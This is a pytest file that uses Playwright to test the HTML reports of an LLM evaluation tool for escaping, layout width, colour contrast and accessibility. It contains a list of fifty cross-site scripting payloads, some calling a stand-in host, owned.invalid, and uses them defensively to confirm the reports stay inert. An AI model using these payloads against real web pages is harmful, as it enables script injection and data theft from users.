"""Pages of stored runs in a real Chromium: hostile fields inert, nothing too wide, all accessible."""

import json
from collections.abc import Callable, Iterator
from importlib.resources import files
from pathlib import Path
from typing import Any

import msgspec
import pytest
from playwright.sync_api import Browser, Page

from qeval.compare import Settings, compare
from qeval.compare.columns import Column
from qeval.exchange import Message, Usage
from qeval.record import Asked, Header, Score, Setup, Trial
from qeval.report import html
from qeval.report.marks import visible
from qeval.store import RunWriter, StoredRun

Look = Callable[..., Page]
SHOP = Path(__file__).parents[1] / "data" / "shop-run.jsonl"

OWN = "window.owned=1;document.title='owned'"
PAYLOADS = [
    f"<script>{OWN}</script>",
    f"</script><script>{OWN}</script>",
    f"</ScRiPt\t><sCrIpT>{OWN}</sCrIpT>",
    f"</pre></div></details><script>{OWN}</script>",
    f"</summary><script>{OWN}</script>",
    f"</style><script>{OWN}</script>",
    f"</title><script>{OWN}</script>",
    f"</textarea><script>{OWN}</script>",
    f"</noscript><script>{OWN}</script><!--data-->",
    f"--><script>{OWN}</script><!--",
    f"<![CDATA[<script>{OWN}</script>]]>",
    f"<script src='data:text/javascript,{OWN}'></script>",
    "<script src=//owned.invalid/x.js></script>",
    "<script type=module>import 'https://owned.invalid/x.js'</script>",
    f'<img src=x onerror="{OWN}">',
    f"<img/src='x'/onerror={OWN}>",
    "<img src=https://owned.invalid/pixel.png>",
    "<img srcset='https://owned.invalid/pixel.png 1x'>",
    f"<svg onload={OWN}>",
    f"<svg><script>{OWN}</script></svg>",
    f"<svg><animate onbegin={OWN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href onbegin={OWN}>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={OWN}>",
    f"<body onload={OWN}>",
    f"<details open ontoggle={OWN}>",
    f"<input autofocus onfocus={OWN}>",
    f"<video><source onerror={OWN}></video>",
    f"<audio src=x onerror={OWN}>",
    f"<marquee onstart={OWN}>",
    f'<iframe srcdoc="<script>parent.{OWN}</script>"></iframe>',
    f'<iframe src="javascript:parent.{OWN}"></iframe>',
    "<iframe src=https://owned.invalid/></iframe>",
    "<object data=https://owned.invalid/></object>",
    "<embed src=https://owned.invalid/>",
    "<link rel=stylesheet href=https://owned.invalid/x.css>",
    "<style>@import 'https://owned.invalid/x.css'</style>",
    "<style>*{display:none!important}</style>",
    "<style>body{background:url(https://owned.invalid/x.png)}</style>",
    "<meta http-equiv=refresh content='0;url=https://owned.invalid/'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<base href=https://owned.invalid/>",
    "<form action=https://owned.invalid/><button>send</button></form>",
    f'<a href="javascript:{OWN}" autofocus>here</a>',
    f"[here](javascript:{OWN})",
    f'" onmouseover="{OWN}" autofocus onfocus="{OWN}',
    f"' onmouseover='{OWN}' autofocus onfocus='{OWN}",
    f"`-{OWN}-`${{{OWN}}}{{{{{OWN}}}}}{{% {OWN} %}}",
    f"\x00<\x00script>{OWN}</script>\x1b[2J\x1b]0;owned\x07\r\x08",
    f"\u202e>tpircs/<{OWN}>tpircs<\u202c\u2066\u200b\ufeff\u2028\u2029",
    f"＜script＞{OWN}＜/script＞&lt;script&gt;{OWN}&lt;/script&gt;&#60;script&#62;",
]
"""Fifty answers that a browser would obey if they were markup."""


def asked_and_answered(number: int, payload: str) -> tuple[Asked, Trial]:
    """Return a case with the payload in every place that takes free text."""
    case = f"hostile-{number}"
    score = Score(value=0.0, passed=False, check=payload, reason=payload)
    errored = number % 5 == 0
    asked = Asked(
        case=case,
        messages=(Message(role="system", content=payload), Message(role="user", content=payload)),
        tags=(payload,),
        description=payload,
        skip=payload,
        where=payload,
    )
    trial = Trial(
        case=case,
        target="qwen-plus",
        scenario="factual_qa",
        outcome="errored" if errored else "failed",
        scores=() if errored else (score,),
        text="" if errored else payload,
        reasoning=payload,
        error=payload if errored else None,
        code=payload if errored else None,
        model=payload,
        finish_reason=payload,
        usage=Usage(input_tokens=1, output_tokens=1),
    )
    return asked, trial


@pytest.fixture
def look(chromium: Browser) -> Iterator[Look]:
    """Open a page from disk; `heard` gets its requests and what it tells the console."""
    contexts = []

    def opened(path: Path, heard: list[str], *, theme: str = "light", width: int = 1440) -> Page:
        context = chromium.new_context(
            viewport={"width": width, "height": 900},
            color_scheme="dark" if theme == "dark" else "light",
        )
        contexts.append(context)
        page = context.new_page()
        page.on("console", lambda message: heard.append(message.text))
        page.on("pageerror", lambda error: heard.append(str(error)))
        page.on("request", lambda request: heard.append(request.url))
        page.goto(path.as_uri())
        return page

    yield opened
    for context in contexts:
        context.close()


@pytest.fixture(scope="module")
def shop(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The page of a run in which everything happened once."""
    path = tmp_path_factory.mktemp("shop") / "report.html"
    html.write([Column(StoredRun(SHOP))], path)
    return path


@pytest.fixture(scope="module")
def shops(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The page of that run against itself with two answers in three changed."""
    folder = tmp_path_factory.mktemp("shops")
    first = StoredRun(SHOP)
    writer = RunWriter(folder, msgspec.structs.replace(first.header, id="b" * 12))
    for number, asked in enumerate(first.asked.values()):
        writer.asked(number * 100, asked)
    order = {case: number for number, (case, _) in enumerate(first.asked)}
    for number, trial in enumerate(first.trials()):
        changes: dict[str, Any] = {"text": trial.text.replace("days", "weeks"), "recording": None}
        if number % 3 and trial.outcome == "passed":
            changes["outcome"] = "failed"
        held = msgspec.structs.replace(trial, **changes)
        writer.trial(order[trial.case] * 100 + number % 97, held)
    second = writer.close(msgspec.structs.replace(first.header, id="b" * 12))
    columns = [Column(first), Column(second)]
    html.write(columns, folder / "report.html", compare(columns, Settings()))
    return folder / "report.html"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    header = Header(
        qeval="1.2.3",
        id="0123456789ab",
        suite="hostile",
        mode="replay",
        suite_digest="d" * 64,
        description=PAYLOADS[1],
        sources=(PAYLOADS[0],),
        notes=tuple(PAYLOADS),
        options={PAYLOADS[0]: PAYLOADS[1]},
        targets=(Setup(name="qwen-plus", model=PAYLOADS[2], description=PAYLOADS[3]),),
        scenarios=(Setup(name="factual_qa", source=PAYLOADS[4], vars={PAYLOADS[5]: PAYLOADS[6]}),),
    )
    writer = RunWriter(folder, header)
    for number, payload in enumerate(PAYLOADS):
        asked, trial = asked_and_answered(number, payload)
        writer.asked(number, asked)
        writer.trial(number, trial)
    path = folder / "report.html"
    html.write([Column(writer.close(header))], path)
    return path


def test_the_trap_catches_a_page_that_does_not_escape(look: Look, tmp_path: Path) -> None:
    path = tmp_path / "naive.html"
    path.write_text(f"<!doctype html><p>{PAYLOADS[14]}<p>{PAYLOADS[16]}<p>{PAYLOADS[0]}")
    heard: list[str] = []

    page = look(path, heard)

    assert page.evaluate("window.owned") == 1
    assert "https://owned.invalid/pixel.png" in heard


def test_hostile_text_is_inert_in_every_field_and_shown_as_it_is(look: Look, hostile: Path) -> None:
    assert len(PAYLOADS) == 50
    heard: list[str] = []
    page = look(hostile, heard)
    title = page.title()
    page.keyboard.press("/")
    page.keyboard.type("owned")
    page.keyboard.press("Escape")  # empties the field
    page.keyboard.press("Escape")  # leaves it
    answers = set()
    for _ in PAYLOADS:
        page.keyboard.press("j")
        page.wait_for_timeout(20)
        for fold in page.locator(".raw summary, #case summary").all():
            fold.click()
        answers |= set(page.evaluate(SHOWN))
    page.get_by_role("button", name="more").first.click()
    page.mouse.move(400, 400)
    page.evaluate("dispatchEvent(new Event('beforeprint'))")
    page.wait_for_timeout(200)

    assert heard == [hostile.as_uri()]
    assert page.evaluate("typeof window.owned") == "undefined"
    assert page.title() == title == "failed: 0 of 50 groups passed · hostile · qeval"
    foreign = (
        "img,iframe,object,embed,link,base,form,video,audio,math,marquee,animate,[onload],"
        "[onerror],body [style]:not(#rows):not(.row)"
    )
    assert page.locator(foreign).count() == 0
    assert page.locator("script:not([type])").count() == 1
    for number, payload in enumerate(PAYLOADS):
        if number % 5:  # the others errored, and have no answer
            assert visible(payload).replace("‹", "").replace("›", "") in answers


SHOWN = "[...document.querySelectorAll('.ans .txt')].map((one) => one.textContent)"


@pytest.mark.parametrize("width", [390, 768, 1440])
@pytest.mark.parametrize("theme", ["light", "dark"])
def test_no_field_makes_the_page_wider_than_the_window(
    look: Look, hostile: Path, shop: Path, shops: Path, *, width: int, theme: str
) -> None:
    for path in (hostile, shop, shops):
        page = look(path, [], width=width, theme=theme)
        if width == 390:
            page.locator("#rows .row").first.click()
        for fold in page.locator("main summary:visible").all():
            fold.click()
        assert page.evaluate("document.documentElement.scrollWidth") == width


TOUCHING = """() => [...document.querySelectorAll(".ticks")].flatMap((axis) => {
  const boxes = [...axis.querySelectorAll("text")].map((one) => one.getBoundingClientRect())
    .filter((box) => box.width).sort((one, other) => one.left - other.left);
  const touch = boxes.slice(1).some((box, n) => box.left - boxes[n].right < 4);
  return touch ? [axis.closest("table, figure").textContent.trim()] : [];
})"""


@pytest.mark.parametrize("width", [390, 760, 1440])
def test_labels_of_an_axis_do_not_touch(
    look: Look, hostile: Path, shop: Path, shops: Path, width: int
) -> None:
    for path in (hostile, shop, shops):
        page = look(path, [], width=width)
        for fold in page.locator("main summary:visible").all():
            fold.click()
        assert page.evaluate(TOUCHING) == []


CONTRAST = """() => {
  const paint = document.createElement("canvas").getContext("2d", {willReadFrequently: true});
  const rgba = (colour) => {
    paint.clearRect(0, 0, 1, 1); paint.fillStyle = colour; paint.fillRect(0, 0, 1, 1);
    return [...paint.getImageData(0, 0, 1, 1).data];
  };
  const light = (colour) => {
    const [r, g, b] = colour.slice(0, 3).map((part) => part / 255)
      .map((part) => part <= 0.04045 ? part / 12.92 : ((part + 0.055) / 1.055) ** 2.4);
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const behind = (one) => {
    for (; one; one = one.parentElement) {
      const colour = rgba(getComputedStyle(one).backgroundColor);
      if (colour[3] === 255) return colour;
    }
    return [255, 255, 255, 255];
  };
  const found = [];
  for (const one of document.querySelectorAll("body *")) {
    const own = [...one.childNodes].some((node) => node.nodeType === 3 && node.data.trim());
    if (!own || !one.checkVisibility() || one.tagName === "SCRIPT") continue;
    const [a, b] = [light(rgba(getComputedStyle(one).color)), light(behind(one))];
    const ratio = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
    found.push([ratio, one.tagName + "." + one.className + " " + one.textContent.slice(0, 40)]);
  }
  return found;
}"""


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_every_text_stands_out_from_what_is_behind_it(look: Look, shops: Path, theme: str) -> None:
    page = look(shops, [], theme=theme)
    for fold in page.locator("main summary:visible").all():
        fold.click()

    found = page.evaluate(CONTRAST)

    assert len(found) > 300
    assert [(round(ratio, 2), text) for ratio, text in found if ratio < 4.5] == []


@pytest.mark.parametrize("theme", ["light", "dark"])
@pytest.mark.parametrize("width", [390, 1440])
def test_axe_finds_nothing(look: Look, shop: Path, shops: Path, *, theme: str, width: int) -> None:
    axe = files("axe_playwright_python").joinpath("axe.min.js").read_text(encoding="utf-8")
    for path in (shop, shops):
        page = look(path, [], theme=theme, width=width)
        for state in ("list", "case", "help"):
            if state == "case":
                page.locator("#rows .row").first.click()
            if state == "help":
                page.locator("#help-open").click()
            page.evaluate(f"{axe};0")
            found = json.loads(page.evaluate("axe.run().then(JSON.stringify)"))
            told = [
                (each["id"], [node["html"][:120] for node in each["nodes"]])
                for each in found["violations"]
            ]
            assert len(found["passes"]) > 20
            assert (path.parent.name, state, told) == (path.parent.name, state, [])


def test_the_first_screen_says_how_it_went_and_what_failed(look: Look, shop: Path) -> None:
    seen = look(shop, []).evaluate(
        """[...document.querySelectorAll("h1, h1 ~ p, .tiles .big, .worst li")]
        .filter((one) => one.innerText)
        .map((one) => one.innerText)"""
    )
    assert seen[:3] == [
        "43 of 56 groups passed",
        "86 of 98 judged trials passed · 2 errored · 4 refused",
        "14 cases × 2 targets × 2 scenarios; a group is one case asked of one target under one scenario",
    ]
    for said in ("simulator", "87.8", "refund-window-days"):
        assert any(said in text for text in seen)


def test_words_of_any_script_are_found(look: Look, shop: Path) -> None:
    page = look(shop, [])
    page.locator("#q").fill("营业时间")
    page.wait_for_timeout(300)
    shown = page.locator("#rows .row > b").all_text_contents()
    assert set(shown) == {"translate-opening-hours"}
